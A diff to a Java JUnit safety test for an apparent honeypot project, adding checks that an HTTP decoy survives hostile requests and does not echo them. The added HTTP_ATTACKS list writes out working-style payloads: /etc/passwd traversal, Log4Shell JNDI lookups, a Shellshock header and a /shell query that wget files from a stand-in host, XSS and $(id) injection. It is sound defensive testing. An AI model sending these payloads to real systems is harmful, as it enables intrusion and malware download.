@@ -5,10 +5,13 @@ import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import dev.bulwark.core.testing.Tools;
 import java.io.File;
+import java.io.IOException;
+import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
+import java.util.Arrays;
 import java.util.List;
 import java.util.Random;
 import java.util.concurrent.TimeUnit;
@@ -88,6 +91,28 @@ class SafetyTest {
       new Random(7).nextBytes(garbage);
       OpenSsh.ssh(
           port, "admin", "admin", null, new String(garbage, StandardCharsets.ISO_8859_1), false);
+      int httpPort = Integer.parseInt(Files.readString(data.resolve("http-port")).trim());
+      for (String request : HTTP_ATTACKS) {
+        String answer = http(httpPort, request.getBytes(StandardCharsets.ISO_8859_1));
+        assertThat(answer).as(request).startsWith("HTTP/1.1 ");
+        // nothing of the request comes back: not the script, the probe, nor the path
+        assertThat(answer).doesNotContain("<script", "jndi", "/etc/passwd", "() {", "wget");
+      }
+      String huge =
+          "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
+              + (8 << 20)
+              + "\r\n\r\n";
+      byte[] hugeBody = new byte[8 << 20];
+      Arrays.fill(hugeBody, (byte) 'A');
+      http(httpPort, concat(huge.getBytes(StandardCharsets.ISO_8859_1), hugeBody));
+      http(httpPort, garbage);
+      assertThat(
+              http(
+                  httpPort,
+                  "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
+                      .getBytes(StandardCharsets.ISO_8859_1)))
+          .as("the HTTP decoy still answers after the attacks")
+          .startsWith("HTTP/1.1 200");
       OpenSsh.Result still = OpenSsh.ssh(port, "admin", "admin", "echo alive", null, false);
       assertThat(still.out()).as("the honeypot still answers after the attacks").contains("alive");
       assertThat(longLine.out().length()).isLessThan(1 << 20);
@@ -101,6 +126,39 @@ class SafetyTest {
     assertThat(Long.parseLong(Files.readString(data.resolve("heap")).trim())).isLessThan(96L << 20);
     List<String> violations = violations(Files.readAllLines(trace), data);
     assertThat(violations).isEmpty();
+  }
+
+  private static final List<String> HTTP_ATTACKS =
+      List.of(
+          "GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+          "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://203.0.113.9/b}\r\nConnection: close\r\n\r\n",
+          "GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; /bin/bash -c 'wget http://203.0.113.9/x'\r\nConnection: close\r\n\r\n",
+          "GET /shell?cd+/tmp;wget+http://203.0.113.9/mozi.m HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
+          "POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 46\r\nConnection: close\r\n\r\nlog=%3Cscript%3Ealert(1)%3C%2Fscript%3E&pwd=$(id",
+          "GET /<script>alert(1)</script> HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
+
+  /** Sends raw bytes to the decoy and returns what it answers (empty when it only closes). */
+  private static String http(int port, byte[] request) throws Exception {
+    try (Socket s = new Socket("127.0.0.1", port)) {
+      s.setSoTimeout(20_000);
+      try {
+        s.getOutputStream().write(request);
+        s.shutdownOutput();
+      } catch (IOException closedEarly) {
+        // the decoy may stop reading a body past its cap and close: that is its answer
+      }
+      try {
+        return new String(s.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
+      } catch (IOException reset) {
+        return "";
+      }
+    }
+  }
+
+  private static byte[] concat(byte[] a, byte[] b) {
+    byte[] out = Arrays.copyOf(a, a.length + b.length);
+    System.arraycopy(b, 0, out, a.length, b.length);
+    return out;
   }
 
   private static final Pattern OPEN = Pattern.compile("openat\\([^,]+, \"([^\"]*)\", ([A-Z_|]+)");
